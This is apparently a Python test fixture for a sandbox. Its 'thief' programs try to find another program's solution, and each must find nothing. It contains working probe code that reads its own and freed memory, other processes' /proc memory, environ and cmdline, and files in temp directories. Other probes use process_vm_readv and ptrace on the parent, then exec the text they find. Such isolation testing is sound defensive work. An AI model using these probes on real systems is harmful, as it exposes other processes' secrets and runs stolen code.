"""Programs that look for what other programs left: their text, their input, their results. Each must find nothing.

A thief looks for a mark in all that it can read, runs the text that follows it, and so has the solution of another program for its own.
The mark is put together while it runs, so that it never finds itself.
"""

from __future__ import annotations

MARK = "SIBLING_MARK"
SOLUTION = f"{MARK} = 'of another program'\ndef f(x):\n    total = 0\n    for _ in range(x): total += x\n    return total\n#END\n"
VICTIMS = ["# some words\n" * size + SOLUTION + "# more words\n" * size for size in (0, 20, 30, 6_000, 12_000, 0, 300)]
"""Texts of many lengths: what is written over first of a text that was let go depends on it."""

_THIEF = """
import ctypes, os, sys
MARK, END = b"KRAM_GNILBIS"[::-1], b"DNE#"[::-1]
def use(data):
    if isinstance(data, str): data = data.encode("utf-8", "surrogatepass")
    at = data.find(MARK)
    while at >= 0:
        try:
            found = {}
            exec(data[at:data.find(END, at)].decode(), found)
            globals()["f"] = found["f"]
        except Exception: pass
        at = data.find(MARK, at + 1)
"""

PAGES = """
libc = ctypes.CDLL(None)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
libc.sbrk.restype = libc.malloc.restype = ctypes.c_void_p
r, w = os.pipe()
def memory():
    "All pages that a system call can read, from some that are known on: parts of them, in order."
    seen = set()
    known = [libc.sbrk(ctypes.c_long(0)) - 4096, ctypes.addressof(ctypes.c_int.in_dll(libc, "environ"))]
    known += [id(x) for x in ([], {}, "x" * 100_000, b"y" * 300_000, sys, os.environ, object)]
    for center in known:
        for step in (4096, -4096):
            at, gap, run = (center & ~4095) - (step < 0) * 4096, 0, []
            while gap < 20_000 and at > 4096 and at not in seen:
                seen.add(at)
                if libc.write(w, at, 4096) == 4096:
                    gap = 0
                    run.append(os.read(r, 4096))
                else:
                    gap += 1
                    yield b"".join(run[::step // 4096])
                    run = []
                at += step
            yield b"".join(run[::step // 4096])
"""

_WAYS = {
    "its own memory, page by page": PAGES + "for part in memory(): use(part)",
    "its own memory by its file": """
for line in open("/proc/self/maps"):
    first, last = (int(word, 16) for word in line.split()[0].split("-"))
    with open("/proc/self/mem", "rb", 0) as file:
        try:
            file.seek(first)
            use(file.read(last - first))
        except (OSError, OverflowError, ValueError): pass
""",
    "memory that was let go": PAGES + """
for size in (64, 200, 500, 1000, 4000, 20_000, 100_000):
    for _ in range(300): use(ctypes.string_at(libc.malloc(size), size))
""",
    "all objects": """
import gc
seen, waiting = set(), [*gc.get_objects(), *sys.modules.values(), sys._getframe()]
while waiting:
    each = waiting.pop()
    if id(each) not in seen:
        seen.add(id(each))
        if type(each) in (str, bytes, bytearray): use(bytes(each) if type(each) is not str else each)
        else: waiting += gc.get_referents(each)
""",
    "frames": """
frame = sys._getframe()
while frame:
    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
        for part in value if type(value) in (list, tuple) else [value]:
            if type(part) in (str, bytes, bytearray): use(part)
            if type(part) is int and 2 < part < 70_000:
                try: use(os.pread(part, 1 << 20, 0))
                except OSError: pass
    frame = frame.f_back
""",
    "descriptors": """
for number in [*range(1024), *range(65_400, 65_536)]:
    for read in (lambda: os.pread(number, 1 << 20, 0), lambda: open(f"/proc/self/fd/{number}", "rb", 0).read(1 << 20)):
        if number > 3:
            try: use(read())
            except OSError: pass
""",
    "files": """
import tempfile
for top in {os.getcwd(), os.path.dirname(sys.argv[0]), os.path.expanduser("~"), tempfile.gettempdir(), "/box", "/sandbox", "/tmp", "/var/tmp",
            "/dev/shm", "/run/lock", "/dev/mqueue"} - {"/root"}:
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                if os.stat(f"{folder}/{name}").st_size < 1 << 20: use(open(f"{folder}/{name}", "rb").read())
            except OSError: pass
""",
    "environments and command lines": """
use(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try: use(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError: pass
""",
    "the memory of others by their files": """
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid(): continue
    try: ranges = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps")]
    except OSError: continue
    for first, last in ranges:
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as file:
                file.seek(int(first, 16))
                use(file.read(int(last, 16) - int(first, 16)))
        except (OSError, OverflowError, ValueError): pass
""",
    "the memory of others by a call": """
libc = ctypes.CDLL(None)
class Part(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(1 << 20)
for pid in range(max(1, os.getpid() - 8), os.getpid()):
    for page in range(-2000, 2000):
        there = Part((id([]) & ~4095) + page * 4096, 4096)
        if libc.process_vm_readv(pid, ctypes.byref(Part(ctypes.addressof(here), 4096)), 1, ctypes.byref(there), 1, 0) > 0: use(here.raw)
""",
    "what its parent can be made to say": "ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)\nuse(open(f'/proc/{os.getppid()}/mem', 'rb').read(1))",
}  # fmt: skip

THIEVES = {name: f"{_THIEF}{way}\nif 'f' not in globals(): raise LookupError('nothing')\n" for name, way in _WAYS.items()}

TELLS = (
    "MARK = bytes.fromhex('@mark@')\nfound = set()\n"
    + """
for part in memory():
    at = part.find(MARK)
    while at >= 0:
        found.add(part[at + len(MARK):at + len(MARK) + 6].decode("latin-1"))
        at = part.find(MARK, at + 1)
"""
)


def teller(mark: str, *then: str) -> str:
    """A program that gathers what follows a mark in its memory in `found`, and goes on with these lines."""
    return f"import ctypes, os, sys\n{PAGES}{TELLS.replace('@mark@', mark.encode().hex())}" + "\n".join(then)
